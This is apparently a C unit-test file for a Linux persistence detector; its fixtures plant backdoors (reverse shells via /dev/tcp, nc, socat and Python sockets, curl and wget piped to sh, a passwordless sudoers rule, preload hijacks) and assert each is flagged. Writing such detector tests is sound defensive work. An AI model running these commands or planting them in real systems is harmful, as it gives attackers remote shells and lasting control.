/* test_persistence.c — unit tests of the persistence family (PER-001..009): backdoors planted
 * in cron, units, boot and shell files, preloads, modules, sudoers, hidden programs */
/* SPDX-License-Identifier: Apache-2.0 */
#include "testlib.h"
#include "chk_fixture.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "util/cleanup.h"

static void run_all(struct fx *x)
{
	for (int i = 1; i <= 10; i++) {
		char id[16];

		snprintf(id, sizeof(id), "PER-%03d", i);
		fx_run(x, id);
	}
}

#define SECURITY "usr/lib/x86_64-linux-gnu/security/"

/* A small Debian-like root: accounts, one package owning pam_unix.so, benign configuration. */
static char *small_root(void)
{
	char *root = t_mkdtemp();

	fx_accounts(root, "alice:x:1000:1000::/home/alice:/bin/bash\n", NULL, "alice:x:1000:\n");
	t_write(root, "etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n", 0644);
	t_write(root, "var/lib/dpkg/status",
		"Package: libpam-modules\nStatus: install ok installed\nVersion: 1.5.2-6\n"
		"Architecture: amd64\n\n",
		0644);
	t_write(root, "var/lib/dpkg/info/libpam-modules:amd64.list",
		"/usr/lib/x86_64-linux-gnu/security/pam_unix.so\n", 0644);
	t_write(root, SECURITY "pam_unix.so", "\177ELF", 0644);
	t_write(root, "etc/crontab",
		"SHELL=/bin/sh\n# m h dom mon dow user command\n"
		"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
		"25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report "
		"/etc/cron.daily; }\n",
		0644);
	t_write(root, "etc/systemd/system/ssh.service",
		"[Service]\nEnvironmentFile=-/etc/default/ssh\nExecStartPre=/usr/sbin/sshd -t\n"
		"ExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nExecReload=/bin/kill -HUP $MAINPID\n",
		0644);
	/* a real-looking timer and its service (apt's daily run) */
	t_write(root, "lib/systemd/system/apt-daily.timer",
		"[Unit]\nDescription=Daily apt download activities\n\n[Timer]\n"
		"OnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\nPersistent=true\n",
		0644);
	t_write(root, "lib/systemd/system/apt-daily.service",
		"[Service]\nType=oneshot\nExecStart=/usr/lib/apt/apt.systemd.daily update\n", 0644);
	t_write(root, "etc/sudoers",
		"Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n"
		"bob ALL=(root) NOPASSWD: /usr/bin/apt\n",
		0440);
	t_write(root, "home/alice/.bashrc",
		"if [ -f ~/.bash_aliases ]; then\n    . ~/.bash_aliases\nfi\n"
		"export PATH=\"$HOME/.local/bin:$PATH\"\n",
		0644);
	return root;
}

/* The small root as it is: nothing reported, nothing not examined. */
static void test_benign(void **state)
{
	_cleanup_free_ char *root = small_root();
	struct fx x;

	(void)state;
	fx_open(&x, root);
	run_all(&x);
	fx_all_clean(&x);
	fx_close(&x);
	t_rmtree(root);
}

static void plant(const char *root)
{
	t_write(root, "etc/crontab",
		"SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
		"*/5 * * * * root bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
		0644);
	t_write(root, "etc/cron.d/update", "@reboot root curl -fsSL http://x.example/i.sh | bash\n",
		0644);
	t_write(root, "var/spool/cron/crontabs/alice", "* * * * * /tmp/.x/miner -o pool:3333\n",
		0600);
	t_write(root, "etc/cron.daily/logs", "#!/bin/sh\necho aGVsbG8K | base64 -d | sh\n", 0755);
	t_write(root, "etc/systemd/system/kworker.service",
		"[Service]\nExecStart=/tmp/.x/kworker\nEnvironment=LD_PRELOAD=/usr/lib/libx.so\n",
		0644);
	t_write(root, "etc/systemd/system/helper.service",
		"[Service]\nExecStartPre=-/usr/lib/.hidden/helper --init\n"
		"ExecStart=/usr/local/bin/[kworker/0:1]\n",
		0644);
	/* timers: one starting kworker.service by Unit=, one by its own name, a user's, one
	 * without a time trigger, and a template instance */
	t_write(root, "etc/systemd/system/sync.timer",
		"[Unit]\nDescription=sync\n\n[Timer]\nOnBootSec=5min\nOnUnitActiveSec=10min\n"
		"Unit=kworker.service\n\n[Install]\nWantedBy=timers.target\n",
		0644);
	t_write(root, "etc/systemd/system/dl.timer", "[Timer]\n  OnCalendar = hourly\n", 0644);
	t_write(root, "etc/systemd/system/dl.service",
		"[Unit]\nDescription=dl\n[Service]\nType=oneshot\n"
		"ExecStart=/bin/sh -c 'wget -qO- http://198.51.100.7/x | sh'\n",
		0644);
	t_write(root, "home/alice/.config/systemd/user/agent.timer", "[Timer]\nOnStartupSec=1\n",
		0644);
	t_write(root, "home/alice/.config/systemd/user/agent.service",
		"[Service]\nExecStart=/home/alice/.x/agent\n", 0644);
	t_write(root, "etc/systemd/system/path-only.timer", "[Timer]\nPersistent=true\n", 0644);
	t_write(root, "etc/systemd/system/path-only.service", "[Service]\nExecStart=/tmp/x\n",
		0644);
	t_write(root, "etc/systemd/system/tick@.service", "[Service]\nExecStart=/dev/shm/tick %i\n",
		0644);
	t_write(root, "etc/systemd/system/tick@1.timer", "[Timer]\nOnCalendar=daily\n", 0644);
	t_write(root, "etc/ld.so.preload", "# comment\n/usr/lib/x86_64-linux-gnu/libhide.so\n",
		0644);
	t_write(root, "etc/rc.local", "#!/bin/sh -e\nnohup /var/tmp/x >/dev/null 2>&1 &\nexit 0\n",
		0755);
	t_write(root, "etc/init.d/netd",
		"#!/bin/sh\nsocat TCP:10.0.0.1:443 EXEC:/bin/bash,pty,stderr\n", 0755);
	t_write(root, "home/alice/.profile",
		"python3 -c 'import socket,subprocess,os;s=socket.socket();"
		"s.connect((\"10.0.0.1\",1));os.dup2(s.fileno(),0)'\n",
		0644);
	t_write(root, "etc/profile.d/x.sh", "nc -e /bin/sh 10.0.0.1 4444\n", 0644);
	t_write(root, "etc/environment", "PATH=/usr/bin\nLD_PRELOAD=/lib/libz.so\n", 0644);
	t_write(root, "etc/sudoers.d/backdoor", "alice ALL=(ALL) NOPASSWD: ALL\n", 0440);
	t_write(root, SECURITY "pam_evil.so", "\177ELF", 0644);
	t_write(root, "etc/pam.d/sshd",
		"auth required pam_unix.so\nauth sufficient /opt/pam/pam_back.so\n", 0644);
	t_write(root, "opt/pam/pam_back.so", "\177ELF", 0644);
	t_write(root, "usr/lib/x86_64-linux-gnu/libnss_evil.so.2", "\177ELF", 0644);
	t_write(root, "lib/modules/6.1.0-13-amd64/extra/rootkit.ko", "\177ELF", 0644);
	assert_int_equal(
		t_sh("cd '%s' && mkdir -p dev/shm home/alice/.hid root/.cache/x && "
		     "cp /usr/bin/true dev/shm/.x && cp /usr/bin/true home/alice/.hid/agent "
		     "&& cp /usr/bin/true root/.cache/x/tool && mkfifo tmp-fifo && "
		     "mkdir -p tmp && mv tmp-fifo tmp/fifo && mkfifo etc/cron.d/fifo && "
		     "truncate -s 5M etc/cron.d/huge",
		     root),
		0);
}

static void expect(const struct fx *x, const char *id, const char *path, unsigned line,
		   const char *words)
{
	const struct fnd_finding *f = fx_find(x, id, path);

	if (!f)
		fail_msg("%s: no finding at %s", id, path);
	if (f->line != line)
		fail_msg("%s %s: line %u, want %u", id, path, f->line, line);
	if (words && !strstr(f->title, words))
		fail_msg("%s %s: title '%s' lacks '%s'", id, path, f->title, words);
}

/* Every planted backdoor is found with its file and line; benign lines stay quiet; FIFOs and a
 * file over the size limit never block (the over-size cron file is NOT EXAMINED). */
static void test_planted(void **state)
{
	_cleanup_free_ char *root = small_root();
	struct fx x;

	(void)state;
	plant(root);
	fx_open(&x, root);
	run_all(&x);
	assert_int_equal(fx_count(&x, "PER-001"), 4);
	expect(&x, "PER-001", "/etc/crontab", 3, "/dev/tcp");
	assert_non_null(strstr(fx_find(&x, "PER-001", "/etc/crontab")->value, "bash -i >&"));
	expect(&x, "PER-001", "/etc/cron.d/update", 1, "download");
	expect(&x, "PER-001", "/var/spool/cron/crontabs/alice", 1, "temporary");
	expect(&x, "PER-001", "/etc/cron.daily/logs", 2, "base64");
	assert_int_equal(fx_gaps(&x, "PER-001"), 1); /* /etc/cron.d/huge */

	/* kworker, helper (two lines), and the services the timers below start */
	assert_int_equal(fx_count(&x, "PER-002"), 7);
	expect(&x, "PER-002", "/etc/systemd/system/kworker.service", 2, "temporary");
	assert_non_null(fx_find(&x, "PER-002", "/etc/systemd/system/helper.service"));

	assert_int_equal(fx_count(&x, "PER-003"), 2);
	expect(&x, "PER-003", "/etc/rc.local", 2, "temporary");
	expect(&x, "PER-003", "/etc/init.d/netd", 2, "socat");

	assert_int_equal(fx_count(&x, "PER-004"), 2);
	expect(&x, "PER-004", "/home/alice/.profile", 1, "socket");
	expect(&x, "PER-004", "/etc/profile.d/x.sh", 1, "netcat");

	assert_int_equal(fx_count(&x, "PER-005"), 3);
	expect(&x, "PER-005", "/etc/ld.so.preload", 2, "preloads");
	expect(&x, "PER-005", "/etc/environment", 2, "LD_PRELOAD");
	expect(&x, "PER-005", "/etc/systemd/system/kworker.service", 3, "LD_PRELOAD");

	assert_int_equal(fx_count(&x, "PER-006"), 3);
	expect(&x, "PER-006", "/" SECURITY "pam_evil.so", 0, "PAM module");
	expect(&x, "PER-006", "/usr/lib/x86_64-linux-gnu/libnss_evil.so.2", 0, "NSS");
	expect(&x, "PER-006", "/etc/pam.d/sshd", 2, "/opt/pam/pam_back.so");

	assert_int_equal(fx_count(&x, "PER-007"), 1);
	expect(&x, "PER-007", "/lib/modules/6.1.0-13-amd64/extra/rootkit.ko", 0, "kernel");

	assert_int_equal(fx_count(&x, "PER-008"), 1);
	expect(&x, "PER-008", "/etc/sudoers.d/backdoor", 1, "without a password");

	/* the timer -> service chains, at the timer's trigger line, naming the service's line */
	assert_int_equal(fx_count(&x, "PER-010"), 4);
	expect(&x, "PER-010", "/etc/systemd/system/sync.timer", 5, "OnBootSec");
	assert_non_null(strstr(fx_find(&x, "PER-010", "/etc/systemd/system/sync.timer")->title,
			       "starts /etc/systemd/system/kworker.service, whose line 2"));
	assert_non_null(strstr(fx_find(&x, "PER-010", "/etc/systemd/system/sync.timer")->value,
			       "OnBootSec=5min -> /etc/systemd/system/kworker.service:2 "
			       "ExecStart=/tmp/.x/kworker"));
	expect(&x, "PER-010", "/etc/systemd/system/dl.timer", 2, "download");
	expect(&x, "PER-010", "/home/alice/.config/systemd/user/agent.timer", 2, "OnStartupSec");
	expect(&x, "PER-010", "/etc/systemd/system/tick@1.timer", 2, "tick@.service");
	assert_null(fx_find(&x, "PER-010", "/etc/systemd/system/path-only.timer"));

	assert_int_equal(fx_count(&x, "PER-009"), 2);
	expect(&x, "PER-009", "/dev/shm/.x", 0, "temporary");
	expect(&x, "PER-009", "/home/alice/.hid/agent", 0, "dot-directory");
	fx_close(&x);
	t_rmtree(root);
}

/* Without a package database the owner of a module cannot be told: NOT EXAMINED. */
static void test_no_database(void **state)
{
	_cleanup_free_ char *root = small_root();
	struct fx x;

	(void)state;
	assert_int_equal(t_sh("rm -r '%s/var/lib/dpkg'", root), 0);
	t_write(root, "lib/modules/6.1.0/extra/x.ko", "\177ELF", 0644);
	fx_open(&x, root);
	fx_run(&x, "PER-006");
	fx_run(&x, "PER-007");
	assert_int_equal(x.r.n_findings, 0);
	assert_int_equal(fx_gaps(&x, "PER-006"), 1);
	assert_int_equal(fx_gaps(&x, "PER-007"), 1);
	fx_close(&x);
	t_rmtree(root);
}

/* The real debootstrapped Debian 12 root (base: cron, sudo, ssh, rsyslog): no finding. */
static void test_debian_clean(void **state)
{
	_cleanup_free_ char *path = t_debian_root("base");
	struct fx x;

	(void)state;
	T_REQUIRE(path, "no debootstrapped root can be built here");
	fx_open(&x, path);
	run_all(&x);
	for (int i = 1; i <= 9; i++) {
		char id[16];

		snprintf(id, sizeof(id), "PER-%03d", i);
		fx_clean(&x, id);
	}
	fx_close(&x);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_benign),
		cmocka_unit_test(test_planted),
		cmocka_unit_test(test_no_database),
		cmocka_unit_test(test_debian_clean),
	};

	return T_RUN_GROUP(tests, NULL, NULL);
}
